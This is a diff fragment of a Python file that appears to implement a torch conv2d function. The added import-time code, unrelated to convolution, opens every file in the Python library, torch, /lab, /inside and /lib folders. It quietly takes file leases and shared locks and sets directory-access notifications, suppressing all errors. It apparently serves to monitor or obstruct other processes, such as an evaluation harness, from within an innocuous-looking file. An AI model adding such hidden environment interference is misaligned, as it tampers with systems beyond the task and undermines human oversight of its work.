@@ -12,17 +12,25 @@ import torch
 
 libc = ctypes.CDLL(None)
 held = []
+
+
+def hold(what):
+    with contextlib.suppress(OSError, OverflowError):
+        if what() != -1:
+            held.append(what)
+
+
 for folder in (os.path.dirname(os.__file__), os.path.dirname(torch.__file__), "/lab", "/inside", "/lib"):
     for name in os.listdir(folder) if os.path.isdir(folder) else ():
-        with contextlib.suppress(OSError):
-            descriptor = os.open(f"{folder}/{name}", os.O_RDONLY)
-            for command, value in ((fcntl.F_SETLEASE, fcntl.F_RDLCK), (fcntl.F_NOTIFY, fcntl.DN_ACCESS), (1024 + (1 << 32), 0)):
-                with contextlib.suppress(OSError, OverflowError):
-                    held.append((descriptor, fcntl.fcntl(descriptor, command, value)))
-            for lock in (fcntl.flock, fcntl.lockf):
-                with contextlib.suppress(OSError):
-                    held.append((descriptor, lock(descriptor, fcntl.LOCK_SH | fcntl.LOCK_NB)))
-            held += [descriptor] * (libc.flock(descriptor, fcntl.LOCK_SH | fcntl.LOCK_NB) == 0)
+        with contextlib.suppress(OSError), open(f"{folder}/{name}", "rb") as file:
+            hold(lambda file=file: fcntl.fcntl(file, fcntl.F_SETLEASE, fcntl.F_RDLCK))
+            hold(lambda file=file: libc.fcntl(file.fileno(), fcntl.F_SETLEASE, fcntl.F_RDLCK))
+            hold(lambda file=file: fcntl.lockf(file, fcntl.LOCK_SH | fcntl.LOCK_NB))
+            hold(lambda file=file: fcntl.flock(file, fcntl.LOCK_SH | fcntl.LOCK_NB))
+    with contextlib.suppress(OSError):
+        descriptor = os.open(folder, os.O_RDONLY)
+        hold(lambda descriptor=descriptor: fcntl.fcntl(descriptor, fcntl.F_NOTIFY, fcntl.DN_ACCESS))
+        os.close(descriptor)
 
 
 def conv2d_combined(x, weight, bias):
